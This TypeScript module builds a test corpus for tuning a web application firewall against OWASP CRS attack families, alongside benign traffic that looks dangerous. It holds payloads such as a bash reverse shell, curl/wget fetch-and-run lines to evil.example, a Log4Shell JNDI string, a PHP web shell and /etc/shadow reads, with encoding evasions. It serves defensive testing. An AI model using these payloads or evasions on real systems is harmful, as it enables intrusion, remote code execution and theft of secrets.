// A corpus per OWASP CRS family, written for the CRS engine (issue 14): the issue's own
// missed payloads and false positives, evasive variants of each attack in every request
// location, and benign traffic that looks dangerous, by category. Every fourth sample
// (by position) is held out: reported apart, never looked at while tuning.
import type { Sample } from './waf-corpus.js';

export type CrsFamily = 'sqli' | 'xss' | 'lfi' | 'rfi' | 'rce' | 'php' | 'java' | 'nodejs' | 'session-fixation';
export interface CrsSample extends Omit<Sample, 'family'> { family: CrsFamily | 'benign'; category?: string }

const BASE: Record<CrsFamily, string[]> = {
  sqli: [") UNION ALL SELECT NULL,NULL,NULL--", "foo')waitfor delay'5:0:20'--", 'sELecT slEep (10 +6)', "1' union select password from users--", "' or '1'='1", "1 and 1=1",
    "admin'--", "1;drop table users", "' having 1=1--", "1' order by 3--+", "x' and extractvalue(1,concat(0x7e,version()))--", "1 or benchmark(10000000,md5(1))"],
  xss: ['<script>alert(1)</script>', '<link href="//evil.example/x.js" rel=stylesheet>', 'style=color:red;background:url(javascript:alert(1))', '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>', 'javascript:alert(document.cookie)', '<iframe src="javascript:alert(1)">', '"><body onload=alert(1)>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>'],
  lfi: ['cat /etc/subuid', '../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/passwd', '../.env', '/proc/self/environ', '..%c0%af..%c0%afetc/passwd'],
  rfi: ['http://10.0.0.1/shell.txt?', 'https://evil.example/x.php?', 'ftp://192.168.0.1/a.txt', 'include(http://evil.example/s.txt)', 'http://127.0.0.1/x?', 'file://169.254.169.254/latest'],
  rce: ['time sh -c whoami', ';cat /etc/passwd', '| id', '$(whoami)', '`id`', '; wget http://evil.example/x.sh', '&& ping -c 10 127.0.0.1', '|| curl evil.example|sh', ';bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'cmd.exe /c dir', 'powershell -enc SQBFAFgA', '${IFS}cat${IFS}/etc/passwd'],
  php: ['<?php system($_GET["c"]); ?>', '<?= `id` ?>', 'php://filter/convert.base64-encode/resource=index.php', 'eval($_POST["x"])', 'O:8:"stdClass":1:{s:4:"a";s:1:"b";}', 'base64_decode($_REQUEST[x])', 'phpinfo()'],
  java: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/a}', 'java.lang.Runtime.getRuntime().exec("id")', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'class.module.classLoader.resources'],
  nodejs: ["require('child_process').exec('id')", "process.mainModule.require('child_process')", "this.constructor.constructor('return process')()"],
  'session-fixation': ['<meta http-equiv="Set-Cookie" content="sessionid=abc">', 'document.cookie="PHPSESSID=1234"', '<script>document.cookie="jsessionid=x"</script>'],
};

/** Evasions a client can apply to any payload: encodings, case, comments, whitespace, concatenation. */
const EVASIONS: Array<[string, (v: string) => string]> = [
  ['plain', (v) => v],
  ['urlencoded', (v) => encodeURIComponent(v)],
  ['double-encoded', (v) => encodeURIComponent(encodeURIComponent(v))],
  ['mixed-case', (v) => v.replace(/[a-z]/g, (c, i: number) => (i % 2 === 0 ? c.toUpperCase() : c))],
  ['sql-comment', (v) => v.replace(/ /g, '/**/')],
  ['tabs-newlines', (v) => v.replace(/ /g, '\t\n')],
  ['html-entities', (v) => v.replace(/[<>'"]/g, (c) => `&#${c.charCodeAt(0)};`)],
  ['null-padded', (v) => `${v}%00`],
];

/** Where a value travels: the samples' `where` (query, JSON body, form, header, path, multipart file name, XML). */
const WHERE: Sample['where'][] = ['query', 'json', 'form', 'header', 'xml', 'path'];

export function crsAttacks(): CrsSample[] {
  const out: CrsSample[] = [];
  for (const [family, payloads] of Object.entries(BASE) as Array<[CrsFamily, string[]]>) {
    payloads.forEach((p, i) => {
      for (const [variant, f] of EVASIONS) {
        const v = f(p);
        // urlencoded variants only where the transport decodes them (query, form, path)
        const where = WHERE[(i + variant.length) % WHERE.length];
        if ((variant === 'urlencoded' || variant === 'double-encoded' || variant === 'null-padded') && (where === 'json' || where === 'header' || where === 'xml')) {
          out.push({ family, variant, where: 'query', name: 'q', value: v });
          continue;
        }
        if (where === 'xml') { out.push({ family, variant, where, value: `<r><v>${v.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</v></r>` }); continue; }
        if (where === 'header') { out.push({ family, variant, where, name: 'x-custom', value: v.replace(/[\r\n]/g, ' ') }); continue; }
        if (where === 'path') { out.push({ family, variant, where, value: encodeURIComponent(v) }); continue; }
        out.push({ family, variant, where, name: where === 'json' ? 'comment' : 'q', value: v });
      }
    });
  }
  return out;
}

/** Random prose up to 3,000 characters (deterministic). */
function prose(seed: number, len: number): string {
  const words = ['the', 'select', 'union', 'from', 'where', 'drop', 'table', 'order', 'by', 'and', 'or', 'script', 'alert', 'cat', 'echo', 'ping', 'time', 'sh', 'exec', 'java', 'runtime', 'php', 'include',
    'a', 'we', 'it', "it's", "don't", 'data', 'file', 'path', 'user', 'admin', 'update', 'insert', 'into', 'values', 'delete', 'like', 'having', 'group', 'count', 'sleep', 'wait', '—', 'naïve', '日本語', 'Ünïcödé', 'и', 'ok.', 'yes,', '(see', 'note)', '1', '2', '100%', '&', '<3'];
  let s = '';
  let x = seed;
  while (s.length < len) { x = (x * 1103515245 + 12345) % 2147483648; s += `${words[x % words.length]} `; }
  return s.slice(0, len);
}

const BENIGN: Record<string, string[]> = {
  names: ["O'Brien", "D'Angelo-Smith", "Renée O'Connor", "Ngũgĩ wa Thiong'o", "Mary-Jane D'Arcy", "Shaquille O'Neal"],
  'sql-prose': ['Please select the best option from the union of both lists', 'We will drop the table tennis class and update the schedule', 'Order by date, then group by team; count the votes',
    "The workers' union voted to select a new leader and drop the old rules", 'Insert the card into the reader, then delete the old values', 'having fun? sleep well and wait for the update'],
  markdown: ['```sql\nSELECT id, name FROM users WHERE active = 1;\n```', '```bash\nnpm install && npm test\n```', '# Title\n\nSome *markdown* with `code` and a [link](https://example.com).',
    '```js\nconst x = await fetch(url);\nconsole.log(x);\n```', '> quote\n\n- item one\n- item two\n\n`a && b || c`', '```python\nif x > 0:\n    print("ok")\n```'],
  'rich-text': ['<p>Hello <b>world</b></p>', '<p><a href="https://example.com">link</a> and <em>emphasis</em></p>', '<ul><li>one</li><li>two</li></ul>', '<h2>Title</h2><p>Text with <code>code</code></p>',
    '<blockquote>quoted</blockquote>', '<img src="https://cdn.example.com/a.png" alt="a picture">'],
  search: ['title:"hello world" -draft', 'tag:js OR tag:ts', 'price:[10 TO 100]', '"exact phrase" +must -not', "it's", "rock 'n' roll", 'C# vs C++', 'a OR b AND NOT c'],
  'strata-filter': ['title ~ "where"', 'price >= 10 && price < 100 && email ~ "%@example.com"', "(status = 'published' && author != '')", 'created > "2026-01-01" || tags ?= "news"', "name ~ 'O''Brien'", 'count > 5 && (a = 1 || b = 2)'],
  'oauth-redirect': ['http://localhost:5173/auth/callback', 'http://localhost:3000/callback?state=abc', 'http://127.0.0.1:8080/oauth/callback', 'https://app.example.com/auth/callback?code=x&state=y', 'myapp://callback', 'http://[::1]:5173/cb'],
  'data-uri': ['data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'data:text/plain;charset=utf-8,hello%20world', 'data:application/json,{"a":1}',
    'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='],
  i18n: ['日本語のテキストです', 'Привет, мир! Как дела?', 'مرحبا بالعالم', 'Ελληνικά κείμενο', '中文测试：选择、联合、删除', 'עברית טקסט', 'Tiếng Việt có dấu', '😀 emoji 🚀 text'],
  'random-text': [prose(1, 200), prose(2, 800), prose(3, 1500), prose(4, 3000), prose(5, 400), prose(6, 2200)],
};

export function crsBenign(): CrsSample[] {
  const out: CrsSample[] = [];
  for (const [category, values] of Object.entries(BENIGN)) {
    values.forEach((v, i) => {
      const where: Sample['where'] = i % 2 === 0 ? 'json' : 'query';
      const name = category === 'oauth-redirect' ? 'redirectURL' : category === 'strata-filter' ? 'filter' : category === 'search' ? 'q' : 'comment';
      out.push({ family: 'benign', category, variant: category, where, name, value: v });
    });
  }
  return out;
}

/** Every fourth sample is held out (never tuned against). */
export const heldOut = <T>(list: T[]): T[] => list.filter((_, i) => i % 4 === 3);
export const tuning = <T>(list: T[]): T[] => list.filter((_, i) => i % 4 !== 3);
